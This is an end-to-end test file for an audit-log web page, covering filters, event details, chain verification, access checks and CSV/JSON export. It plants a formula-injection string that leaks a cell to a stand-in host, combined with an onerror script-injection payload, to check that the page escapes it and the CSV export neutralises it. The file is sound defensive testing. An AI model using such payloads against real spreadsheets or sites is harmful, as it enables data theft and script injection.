import { readFile } from 'node:fs/promises'
import type { Browser, Download, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { createDatabase, deleteDatabase, updateDatabase } from '../databases/documents.ts'
import { makeGroup } from '../groups/custom-groups.ts'
import { useWorld } from '../world.ts'
import { openBrowser, visitAs } from './browser.ts'

const formula = '=HYPERLINK("https://example.net/?"&A1,"<img src=x onerror=document.title=1>")'

const { gateway, account } = useWorld({ accountName: 'Example Inc' })
let browser: Browser

beforeAll(async () => {
  const { id } = await createDatabase(account, { name: 'plants' })
  for (let maxTables = 1; maxTables <= 120; maxTables++) await updateDatabase(account.admin, { id, maxTables })
  await account.admin.run(
    'mutation ($input: CreateDatabaseTokenInput!) { createDatabaseToken(input: $input) { token { id } } }',
    { input: { clusterId: account.clusterIds[0], description: formula, permissions: [] } },
  )
  browser = await openBrowser()
})
afterAll(() => browser?.close())

/** The event that this sentence tells. */
const told = (page: Page, sentence: string) => page.getByRole('cell', { name: sentence, exact: true })

/** The menu of the first event. */
const menuOf = (page: Page) => page.getByRole('button', { name: /^Actions for / }).first()

/** The format is chosen in a menu, unless it is that of the last export. */
async function exported(page: Page, button: string): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), exportAs(page, button)])
  return readFile(await download.path(), 'utf8')
}

async function exportAs(page: Page, format: string): Promise<void> {
  await page.getByRole('button', { name: 'Export in another format' }).click()
  await page.getByRole('menuitem', { name: format }).click()
}

it('an Auditor narrows the log by its address, looks at a change, and finds the chain intact', async () => {
  const auditor = await account.join('ann@example.com', ['auditor'])
  const { page, goto, complaints, foreignRequests } = await visitAs(browser, gateway, auditor)
  await goto('/audit?action=database.up*')
  await page.getByText('120 in total').waitFor()
  await told(page, 'Ada changed the database plants: table limit from 119 to 120').waitFor()
  await page.getByRole('link', { name: 'plants' }).first().waitFor()
  await page.getByLabel('Outcome').selectOption('Succeeded')
  await menuOf(page).click()
  await page.getByRole('menuitem', { name: 'Only about plants' }).click()
  const asked = new URL(page.url()).searchParams
  expect(Object.fromEntries(asked)).toEqual({
    action: 'database.up*',
    resource: expect.stringMatching(/^database_/),
    outcome: 'SUCCEEDED',
  })

  const details = page.getByRole('button', { name: /^Details / }).first()
  await details.click()
  const dialog = page.getByRole('dialog', { name: 'Change a database' })
  await dialog.getByRole('row', { name: 'Table limit 119 120' }).waitFor()
  await dialog.getByText('IDs, and the place in the chain').click()
  await dialog.getByText('database.update').waitFor()
  await page.keyboard.press('Escape')
  await dialog.waitFor({ state: 'detached' })
  await expect.poll(() => page.evaluate('document.activeElement.ariaLabel')).toMatch(/^Details /)

  await goto('/audit?action=Database!')
  await page.getByText('An action is dotted lower case').first().waitFor()
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await page.getByRole('button', { name: 'Verify the log' }).click()
  await page.getByText('The log is intact').waitFor()
  expect(await page.title()).not.toBe('1')
  expect(complaints).toEqual([])
  expect(foreignRequests).toEqual([])
})

it('who deleted a database is told after two presses from the overview, in words', async () => {
  const other = await gateway.account('Deleted Inc')
  await createDatabase(other, { name: 'kept' })
  await deleteDatabase(other.admin, await createDatabase(other, { name: 'gone' }))
  const { page, goto, complaints } = await visitAs(browser, gateway, other.admin)
  await goto('/')
  await page.getByRole('link', { name: 'Audit log' }).click()
  await page.getByRole('button', { name: 'Deleted databases' }).click()
  await told(page, 'Ada deleted the database gone').waitFor()
  await page.getByText('1 in total').waitFor()
  const days = page.getByRole('table', { name: 'Events by day' }).getByRole('row')
  expect((await days.allTextContents())[1]).toMatch(/1\s*0\s*0$/)
  expect(complaints).toEqual([])
})

it('people, tokens and the operator are chosen by their names, and actions by what they do', async () => {
  const other = await gateway.account('Chosen Inc')
  await other.join('zoe@example.com', ['admin'])
  await createDatabase(other, { name: 'plants' })
  const { page, goto, complaints } = await visitAs(browser, gateway, other.admin)
  await goto('/audit')
  await page.getByPlaceholder('Anybody').fill('zoe@')
  await page.getByRole('option', { name: 'zoe zoe@example.com' }).click()
  await expect.poll(() => new URL(page.url()).searchParams.get('actor')).toMatch(/^user_/)
  await told(page, 'zoe joined the account').waitFor()
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await page.getByPlaceholder('Anybody').click()
  await page.getByRole('option', { name: 'The operator' }).click()
  await told(page, 'The operator created the account').waitFor()
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await page.getByPlaceholder('Anything').fill('create database')
  await page.getByRole('option', { name: 'Create a database database.create', exact: true }).click()
  await told(page, 'Ada created the database plants').waitFor()
  expect(complaints).toEqual([])
})

it('names the one who was chosen though no event is shown, and offers all others again', async () => {
  const other = await gateway.account('Named Inc')
  const zoe = await other.join('zoe@example.com', ['admin'])
  const { page, goto, complaints } = await visitAs(browser, gateway, other.admin)
  await goto(`/audit?actor=${zoe.id}&action=database.create`)
  await page.getByText('No event matches.').waitFor()
  const who = page.getByRole('combobox', { name: 'Who' })
  await expect.poll(() => who.inputValue()).toBe('zoe')
  await who.click()
  await page.getByRole('option', { name: 'Ada ada@example.com' }).waitFor()
  await page.getByRole('option', { name: 'The operator' }).waitFor()
  await page.getByRole('option', { name: 'Ada ada@example.com' }).click()
  await expect.poll(() => who.inputValue()).toBe('Ada')
  await who.click()
  await page.getByRole('option', { name: 'zoe zoe@example.com' }).waitFor()
  expect(complaints).toEqual([])
})

it('says of a filter in the address which outcomes it has, and heeds neither what is no time nor what is no outcome', async () => {
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  const outcome = page.getByLabel('Outcome')
  await goto('/audit?outcome=SUCCEEDED,DENIED&action=database.*')
  await page.getByText('121 in total').waitFor()
  expect(await outcome.locator('option:checked').textContent()).toBe('Succeeded, Refused')
  await goto('/audit?outcome=WHATEVER&from=abc&to=-271821-04-20T00:00:00Z&action=database.*')
  await page.getByText('121 in total').waitFor()
  expect(await outcome.locator('option:checked').textContent()).toBe('Any outcome')
  await page.getByRole('figure', { name: 'Events by day' }).waitFor()
  expect(complaints).toEqual([])
})

it('the details of an event tell its values and its groups in words', async () => {
  const other = await gateway.account('Worded Inc')
  const kim = await other.join('kim@example.com', ['member'])
  const group = await makeGroup(other.admin, 'night-watch', { name: 'The <i>night</i> watch' })
  await other.admin.run('mutation ($input: AddMembershipInput!) { addMembership(input: $input) { __typename } }', {
    input: { userId: kim.id, groupId: group.id, reason: 'INC-7' },
  })
  await other.admin.run('mutation ($input: UpdateUserInput!) { updateUser(input: $input) { __typename } }', {
    input: { id: kim.id, status: 'DEACTIVATED' },
  })
  const { page, goto, complaints } = await visitAs(browser, gateway, other.admin)
  await goto('/audit?action=membership.add')
  await told(page, 'Ada added kim to the group The <i>night</i> watch').waitFor()
  await page.getByRole('button', { name: /^Details / }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByRole('cell', { name: 'group: The <i>night</i> watch, reason: INC-7' }).waitFor()
  await dialog.getByText('Allowed by').waitFor()
  expect(await dialog.getByText('Admin', { exact: true }).count()).toBe(1)
  await page.keyboard.press('Escape')
  await goto('/audit?action=user.update')
  await page.getByRole('button', { name: /^Details / }).click()
  await dialog.getByRole('row', { name: 'Status Active Deactivated' }).waitFor()
  await dialog.getByText('Succeeded').waitFor()
  expect(complaints).toEqual([])
})

it('a search finds what was called so, and a period what happened in it', async () => {
  const { page, goto } = await visitAs(browser, gateway, account.admin)
  await goto('/audit')
  await page.getByLabel('Search by name').fill('PLANT')
  await page.getByText('121 in total').waitFor()
  await page.getByLabel('Period').selectOption('Last 7 days')
  expect(new URL(page.url()).searchParams.get('period')).toBe('7d')
  await page.getByText('121 in total').waitFor()
  await page.getByLabel('Period').selectOption('Between two times')
  await page.getByLabel('To', { exact: true }).fill('2020-01-01T00:00')
  await page.getByLabel('To', { exact: true }).press('Enter')
  await page.getByText('No event matches.').waitFor()
})

it('an Admin exports the filtered log, oldest first: JSON lines hold all, and no cell of the CSV is a formula', async () => {
  const { page, goto, complaints, foreignRequests } = await visitAs(browser, gateway, account.admin)
  await goto('/audit?action=database.*')
  await page.getByText('121 in total').waitFor()
  const lines = (await exported(page, 'JSON lines')).trimEnd().split('\n')
  const events = lines.map((line) => JSON.parse(line))
  expect(events.map(({ action }) => action)).toEqual(['database.create', ...Array(120).fill('database.update')])
  const numbers = events.map(({ sequence }) => Number(sequence))
  expect(numbers).toEqual(numbers.toSorted((a, b) => a - b))
  expect(events[120].changes).toEqual([{ field: 'maxTables', before: 119, after: 120 }])
  expect(events[120].hash).toMatch(/^[0-9a-f]{64}$/)

  await goto('/audit?action=database_token.create')
  await page.getByText('1 in total').waitFor()
  // The last format is one press away.
  await page.getByRole('button', { name: 'Export JSON lines' }).waitFor()
  const [header, row] = (await exported(page, 'CSV')).split('\r\n')
  expect(header).toMatch(/^sequence,occurredAt,action,/)
  expect(row).toContain(`,"'${formula.replaceAll('"', '""')}",`)
  expect(complaints).toEqual([])
  expect(foreignRequests).toEqual([])
})

it('an export under way shows how far it is, and stops at once when told to, without a file', async () => {
  const { page, goto } = await visitAs(browser, gateway, account.admin)
  const downloads: Download[] = []
  page.on('download', (download) => downloads.push(download))
  await goto('/audit')
  await page.getByRole('link', { name: formula }).waitFor()
  let release = () => {}
  const held = new Promise<void>((resolve) => {
    release = resolve
  })
  await page.route('**/graphql', async (route) => {
    if (route.request().postData()?.includes('"before":"')) await held
    await route.continue()
  })
  await page.getByRole('button', { name: 'Export CSV' }).click()
  await page.getByText(/^100 of 1\d\d events$/).waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await page.getByRole('button', { name: 'Export CSV' }).waitFor()
  const answered = page.waitForResponse('**/graphql')
  release()
  await answered
  await page.getByLabel('Search by name').fill(formula)
  await page.getByText('1 in total').waitFor()
  await exported(page, 'CSV')
  expect(downloads).toHaveLength(1)
})

it('a broken chain says where it is broken', async () => {
  const other = await gateway.account('Broken Inc')
  await createDatabase(other, { name: 'plants' })
  await gateway.db
    .updateTable('audit_events')
    .where('account_id', '=', other.id)
    .where('sequence', '=', 2)
    .set({ actor_label: 'nobody' })
    .execute()
  const { page, goto } = await visitAs(browser, gateway, other.admin)
  await goto('/audit')
  await page.getByRole('button', { name: 'Verify the log' }).click()
  await page.getByText('The log is broken at event 2').waitFor()
})

it('a Member reads that they may not see the log', async () => {
  const { page, goto, complaints } = await visitAs(browser, gateway, await account.join('mel@example.com', ['member']))
  await goto('/audit')
  await page.getByText('no group of yours grants AUDIT_READ').waitFor()
  expect(complaints).toEqual([])
})
